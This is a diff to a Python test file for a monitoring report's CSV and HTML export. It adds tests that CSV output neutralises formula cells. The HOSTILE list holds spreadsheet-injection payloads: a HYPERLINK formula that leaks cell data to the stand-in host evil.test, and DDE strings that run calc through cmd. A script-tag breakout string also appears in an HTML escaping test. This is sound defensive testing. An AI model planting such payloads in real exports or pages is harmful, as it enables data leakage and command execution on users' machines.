@@ -8,12 +8,10 @@ import json
 from datetime import UTC, datetime, timedelta
 
 import pytest
+from report_rows import api_hour, open_issue, queue_hour
 
 from supabase_monitoring.errors import InvalidInputError
 from supabase_monitoring.report import (
-    ApiHour,
-    OpenIssue,
-    QueueHour,
     ReportData,
     render_html,
     render_text,
@@ -32,14 +30,14 @@ def data() -> ReportData:
         since=T0,
         hours=2,
         queues=[
-            QueueHour("ingest", T0, 10, 90, 10, 100.0, 100),
-            QueueHour("ingest", T0 + timedelta(hours=1), 30, 200, 0, 200.0, 200),
+            queue_hour("ingest", T0, 10, 90, 10, 100.0, 100),
+            queue_hour("ingest", T0 + timedelta(hours=1), 30, 200, 0, 200.0, 200),
         ],
         apis=[
-            ApiHour("stripe", T0, 40, 30, 10, 50.0, 400.0),
-            ApiHour("stripe", T0 + timedelta(hours=1), 10, 10, 0, 100.0, 900.0),
+            api_hour("stripe", T0, 40, 30, 10, 50.0, 400.0),
+            api_hour("stripe", T0 + timedelta(hours=1), 10, 10, 0, 100.0, 900.0),
         ],
-        issues=[OpenIssue("i-1", "w", "stuck", "critical", 'a "quoted", message', T0)],
+        issues=[open_issue("i-1", "w", "stuck", "critical", 'a "quoted", message', T0)],
         overall_status="warning",
     )
 
@@ -83,12 +81,49 @@ def test_csv_sections_and_quoting() -> None:
     assert rows[4]["message"] == 'a "quoted", message'
 
 
+HOSTILE = [
+    '=HYPERLINK("http://evil.test/?leak="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\uff1d1+1",
+]
+
+
+def test_csv_neutralises_formula_cells_from_hostile_names() -> None:
+    hostile = ReportData(
+        generated_at=T0,
+        since=T0,
+        hours=1,
+        queues=[queue_hour(name, T0, 1, 1, 0, 1.0, 1) for name in HOSTILE],
+        apis=[api_hour(name, T0, 1, 1, 0, 1.0, 1.0) for name in HOSTILE],
+        issues=[open_issue(name, name, name, "critical", name, T0) for name in HOSTILE],
+    )
+    rows = list(csv.DictReader(io.StringIO(report_to_csv(hostile), newline="")))
+    assert len(rows) == 3 * len(HOSTILE)  # a CR or LF in a name does not split its row
+    text_columns = ("name", "issue_type", "message", "id")
+    cells = [r[c] for r in rows for c in text_columns if r[c]]
+    assert len(cells) == len(HOSTILE) * (2 + 4)
+    for cell in cells:
+        assert cell[0] == "'", cell
+        assert cell[1:] in HOSTILE  # quoted, not altered: nothing the worker wrote is lost
+
+
+def test_csv_leaves_ordinary_text_and_numbers_alone() -> None:
+    rows = list(csv.DictReader(io.StringIO(report_to_csv(data()))))
+    assert rows[0]["name"] == "ingest"
+    assert rows[4]["id"] == "i-1"
+    assert rows[0]["avg_ms"] == "100.0"
+
+
 def test_html_is_self_contained_and_escapes_data_in_the_embedded_json() -> None:
     nasty = ReportData(
         generated_at=T0,
         since=T0,
         hours=1,
-        issues=[OpenIssue("x", "w", "t", "error", "</script><script>alert(1)</script>", T0)],
+        issues=[open_issue("x", "w", "t", "error", "</script><script>alert(1)</script>", T0)],
     )
     page = render_html(nasty)
     assert "</script><script>alert(1)" not in page
